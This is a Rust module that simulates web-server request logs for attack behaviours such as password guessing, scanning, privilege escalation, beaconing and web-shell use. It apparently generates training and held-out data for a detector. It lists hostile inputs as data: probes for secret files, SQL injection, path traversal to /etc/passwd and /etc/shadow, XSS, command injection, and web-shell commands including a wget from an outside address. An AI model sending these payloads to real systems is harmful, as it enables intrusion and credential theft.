//! The same, as a web server sees it: requests.

use crate::cast;
use crate::clock::SECOND_US;
use crate::ordinary::web::{AGENTS, Visitor, home_page, site};
use crate::scene::Scene;
use crate::spec::{Behaviour, Wording};

/// What scanners ask for, by set.
const PROBES: [[&str; 14]; 2] = [
    [
        "/.env",
        "/.git/config",
        "/wp-login.php",
        "/phpmyadmin/",
        "/backup.zip",
        "/config.php.bak",
        "/server-status",
        "/admin.php",
        "/cgi-bin/test.cgi",
        "/vendor/phpunit/phpunit/phpunit.xml",
        "/.aws/credentials",
        "/db.sql",
        "/solr/admin",
        "/manager/html",
    ],
    [
        "/.svn/entries",
        "/xmlrpc.php",
        "/adminer.php",
        "/dump.tar.gz",
        "/web.config",
        "/actuator/env",
        "/HNAP1/",
        "/boaform/admin/formLogin",
        "/owa/auth/logon.aspx",
        "/.vscode/sftp.json",
        "/jenkins/script",
        "/geoserver/web",
        "/telescope/requests",
        "/old/index.php~",
    ],
];

const TOOLS: [[&str; 3]; 2] = [
    ["Mozilla/5.00 (Nikto/2.1.6)", "sqlmap/1.8", "gobuster/3.6"],
    [
        "Nuclei - Open-source project",
        "feroxbuster/2.10",
        "WhatWeb/0.5.5",
    ],
];

/// What is sent where a value belongs.
const PAYLOADS: [[&str; 6]; 2] = [
    [
        "1%27%20OR%201%3D1--",
        "1%20UNION%20SELECT%20user,pass%20FROM%20users",
        "..%2F..%2F..%2Fetc%2Fpasswd",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "%3Bcat%20/etc/passwd",
        "http://198.51.100.7/x.txt",
    ],
    [
        "1)%20AND%20SLEEP(5)--%20-",
        "%27%7C%7C(SELECT%20version())%7C%7C%27",
        "....//....//etc/shadow",
        "%22%3E%3Csvg%20onload=confirm(2)%3E",
        "%7Cid%7C",
        "php://filter/convert.base64-encode/resource=index",
    ],
];

fn of_set<T: Copy, const N: usize>(scene: &mut Scene<'_>, sets: &[[T; N]; 2]) -> T {
    let [training, held_out] = sets;
    let set = match scene.cast.wording {
        Wording::Training => training,
        Wording::HeldOut => held_out,
    };
    scene.chance.pick(set)
}

fn attacker(scene: &mut Scene<'_>) -> Visitor {
    let client = scene.stranger();
    let agent = if scene.chance.percent(40) {
        of_set(scene, &TOOLS)
    } else {
        scene.chance.pick(&AGENTS)
    };
    Visitor::new(client, agent)
}

pub(super) fn play(behaviour: Behaviour, scene: &mut Scene<'_>) {
    match behaviour {
        Behaviour::Burst => guess(scene, 14, 120, 200, 4_000),
        Behaviour::Spraying => spray(scene),
        Behaviour::Slow => guess(scene, 14, 46, 130_000, 1_100_000),
        Behaviour::Guessing => forbidden(scene),
        Behaviour::NewRights => raise(scene),
        Behaviour::Tampering => others_documents(scene),
        Behaviour::Scan => scan(scene),
        Behaviour::Exfiltration => export(scene),
        Behaviour::Beacon => beacon(scene),
        Behaviour::Exhaustion => fail(scene, &[503, 429, 503, 507]),
        Behaviour::CrashLoop => fail(scene, &[502, 502, 200, 502]),
        Behaviour::Outage => fail(scene, &[500, 504, 500, 504]),
        Behaviour::DownloadRun | Behaviour::Miner | Behaviour::Ransom => payloads(scene),
        Behaviour::WebShell => shell(scene),
    }
}

fn guess(scene: &mut Scene<'_>, low: u64, high: u64, fastest_ms: u64, slowest_ms: u64) {
    let (visitor, site) = (attacker(scene), site(scene));
    for _ in 0..scene.chance.spread(low, high) {
        visitor.asks(scene, "POST", site.sign_in, 401, 1_204);
        scene.wait_ms(fastest_ms, slowest_ms);
    }
    if scene.chance.percent(20) {
        visitor.asks(scene, "POST", site.sign_in, 302, 0);
        visitor.asks(scene, "GET", site.own, 200, 8_412);
    }
}

fn spray(scene: &mut Scene<'_>) {
    let visitors: Vec<Visitor> = (0..scene.chance.between(2, 6))
        .map(|_| attacker(scene))
        .collect();
    let site = site(scene);
    for _ in 0..scene.chance.between(16, 60) {
        let i = scene.chance.between(0, visitors.len() as u64) as usize;
        if let Some(visitor) = visitors.get(i) {
            visitor.asks(scene, "POST", site.sign_in, 401, 1_204);
        }
        scene.wait_s(2, 60);
    }
}

/// A user asks for the pages of administrators.
fn forbidden(scene: &mut Scene<'_>) {
    let (mut visitor, site) = (attacker(scene), site(scene));
    visitor.user = scene.person().name.to_owned();
    for _ in 0..scene.chance.between(6, 24) {
        let page = scene
            .chance
            .pick(&["", "/users", "/settings", "/export.csv", "/keys", "/logs"]);
        visitor.asks(scene, "GET", &format!("{}{page}", site.admin), 403, 298);
        scene.wait_s(1, 25);
    }
}

/// A user makes themselves an administrator.
fn raise(scene: &mut Scene<'_>) {
    let (mut visitor, site) = (attacker(scene), site(scene));
    visitor.user = scene.person().name.to_owned();
    let id = scene.chance.between(3, 90);
    for _ in 0..scene.chance.between(2, 6) {
        visitor.asks(
            scene,
            "POST",
            &format!("{}/users/{id}/role", site.admin),
            403,
            298,
        );
        scene.wait_s(2, 30);
    }
    visitor.asks(
        scene,
        "PUT",
        &format!("{}/{id}?role=admin", site.own),
        200,
        84,
    );
    for _ in 0..scene.chance.between(4, 12) {
        let page = scene
            .chance
            .pick(&["/users", "/settings", "/keys", "/export.csv"]);
        scene.wait_s(2, 40);
        visitor.asks(scene, "GET", &format!("{}{page}", site.admin), 200, 9_120);
    }
}

/// Counts through the documents of others.
fn others_documents(scene: &mut Scene<'_>) {
    let (mut visitor, site) = (attacker(scene), site(scene));
    visitor.user = scene.person().name.to_owned();
    let first = scene.chance.between(100, 9_000);
    for i in 0..scene.chance.spread(12, 80) {
        let status = if scene.chance.percent(60) { 200 } else { 403 };
        let bytes = scene.chance.spread(9_000, 90_000);
        visitor.asks(
            scene,
            "GET",
            &format!("{}/{}", site.documents, first + i),
            status,
            bytes,
        );
        scene.wait_ms(200, 4_000);
    }
}

fn scan(scene: &mut Scene<'_>) {
    let visitor = attacker(scene);
    let slowest_ms = scene.chance.spread(100, 15_000);
    for _ in 0..scene.chance.spread(20, 120) {
        let target = of_set(scene, &PROBES);
        let status = scene.chance.pick(&[404, 404, 404, 403, 301]);
        visitor.asks(scene, "GET", target, status, 196);
        scene.wait_ms(20, slowest_ms);
    }
}

/// Page after page of an export, each large.
fn export(scene: &mut Scene<'_>) {
    let (mut visitor, site) = (attacker(scene), site(scene));
    visitor.user = scene.person().name.to_owned();
    for page in 1..=scene.chance.spread(10, 60) {
        let bytes = scene.chance.between(900_000, 9_000_000);
        visitor.asks(
            scene,
            "GET",
            &format!("{}?page={page}&all=1", site.interface),
            200,
            bytes,
        );
        scene.wait_s(1, 20);
    }
}

/// A program inside asks a page of this site for its orders, at even steps.
fn beacon(scene: &mut Scene<'_>) {
    let visitor = Visitor::new(cast::external(&mut scene.chance), "");
    let client = visitor.client.clone();
    scene.acts(&client);
    let every_s = scene.chance.pick(&[30, 60, 120]);
    for _ in 0..scene.chance.between(14, 50) {
        let target = format!("/pixel.gif?id={:08x}", scene.chance.next() >> 32);
        visitor.asks(scene, "GET", &target, 200, 43);
        scene.at_us += every_s * SECOND_US + scene.chance.between(0, 2_000_000) as i64;
    }
}

/// Every visitor gets errors.
fn fail(scene: &mut Scene<'_>, statuses: &[u16]) {
    for _ in 0..scene.chance.spread(14, 100) {
        let client = cast::external(&mut scene.chance);
        let visitor = Visitor::new(client, scene.chance.pick(&AGENTS));
        let (page, status) = (home_page(scene), scene.chance.pick(statuses));
        visitor.asks(scene, "GET", page, status, 166);
        scene.wait_ms(80, 6_000);
    }
}

fn payloads(scene: &mut Scene<'_>) {
    let visitor = attacker(scene);
    for _ in 0..scene.chance.spread(10, 60) {
        let (page, payload) = (home_page(scene), of_set(scene, &PAYLOADS));
        let page = page.split('?').next().unwrap_or(page);
        let status = scene.chance.pick(&[200, 400, 403, 404, 500]);
        visitor.asks(scene, "GET", &format!("{page}?id={payload}"), status, 730);
        scene.wait_ms(300, 9_000);
    }
}

/// A page is put there, and then asked to run commands.
fn shell(scene: &mut Scene<'_>) {
    let (visitor, site) = (attacker(scene), site(scene));
    let name = scene.chance.pick(&["x", "up", "cmd", "img", "wp-cache"]);
    visitor.asks(scene, "POST", site.upload, 201, 180);
    for command in [
        "id",
        "uname%20-a",
        "cat%20/etc/passwd",
        "ls%20-la",
        "wget%20198.51.100.7/x",
    ] {
        for _ in 0..scene.chance.between(1, 5) {
            scene.wait_s(2, 60);
            let target = format!("{}/{name}.php?cmd={command}", site.upload);
            visitor.asks(scene, "GET", &target, 200, 412);
        }
    }
}
